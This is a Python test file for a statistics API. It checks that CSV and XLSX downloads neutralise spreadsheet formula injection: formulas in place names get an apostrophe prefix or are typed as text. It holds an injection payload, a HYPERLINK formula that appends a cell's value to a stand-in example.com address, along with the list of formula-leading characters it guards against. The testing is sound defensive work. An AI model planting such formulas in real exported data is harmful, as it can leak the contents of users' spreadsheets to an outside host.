"""A text that anyone may have written is no formula in what is downloaded."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import httpx
import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from services.api.http.routing import BASE
from services.api.values.files.readable import local_text
from shared.catalogue.loader import shipped_catalogue
from shared.domain.wording import Language
from shared.facts.series import put_series
from shared.files.formulas import without_formula
from tests.api.test_lineage import VALUE

pytestmark = pytest.mark.begins_with("landskrona")
TODAY = date(2016, 5, 20)
FORMULA = '=HYPERLINK("https://example.com/?"&A1;"Öppna")'


@pytest.fixture
async def values(engine: AsyncEngine) -> None:
    """Put a value of a place into the read model whose name is a formula."""
    period = {"period_type": "month", "period_start": date(2016, 3, 1)}
    named = {"indicator": "graffiti-cleanups", "slice": "all", "area": "1282-karlslund"}
    async with engine.begin() as connection:
        await put_series(connection, shipped_catalogue(), TODAY)
        await connection.execute(VALUE, named | period)
        await connection.execute(text("UPDATE area SET name = :name WHERE code = '1282-karlslund'"), {"name": FORMULA})


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_a_text_is_no_formula_and_a_number_stays_a_number(start: str) -> None:
    """Trials C11."""
    assert without_formula(f"{start}1+1") == f"'{start}1+1"
    assert local_text(f"{start}1", Language.SV) == f"'{start}1"
    assert [without_formula(name) for name in ("Karlslund", "", "1=1", "a@b")] == ["Karlslund", "", "1=1", "a@b"]
    assert [local_text(number, Language.SV) for number in (Decimal("-1.5"), -2.5, -3)] == ["-1,5", "-2,5", -3]


@pytest.mark.usefixtures("values")
async def test_no_download_holds_a_formula(reader: httpx.AsyncClient) -> None:
    """Trials C11: a place's name."""
    listed = await reader.get(f"{BASE}/indicator-values?expand=names", headers={"Accept": "text/csv"})
    files = {
        form: (await reader.get(f"{BASE}/indicator-value-files?{form}")).content
        for form in ("format=csv&expand=names", "format=csv&locale=sv", "format=xlsx&expand=names")
    }
    *sheets, book = [listed.content, *files.values()]
    for content, delimiter in zip(sheets, ",,;", strict=True):
        rows = [*csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter)]
        cells = [cell for row in rows for cell in row]
        assert f"'{FORMULA}" in cells
        assert not any(cell.startswith(("=", "+", "@", "\t")) for cell in cells)
    # A workbook's cell has a type: a text is none, whatever it begins with.
    (sheet, _) = CalamineWorkbook.from_filelike(io.BytesIO(book)).sheet_names
    read = CalamineWorkbook.from_filelike(io.BytesIO(book)).get_sheet_by_name(sheet).to_python()
    assert FORMULA in [cell for row in read for cell in row]
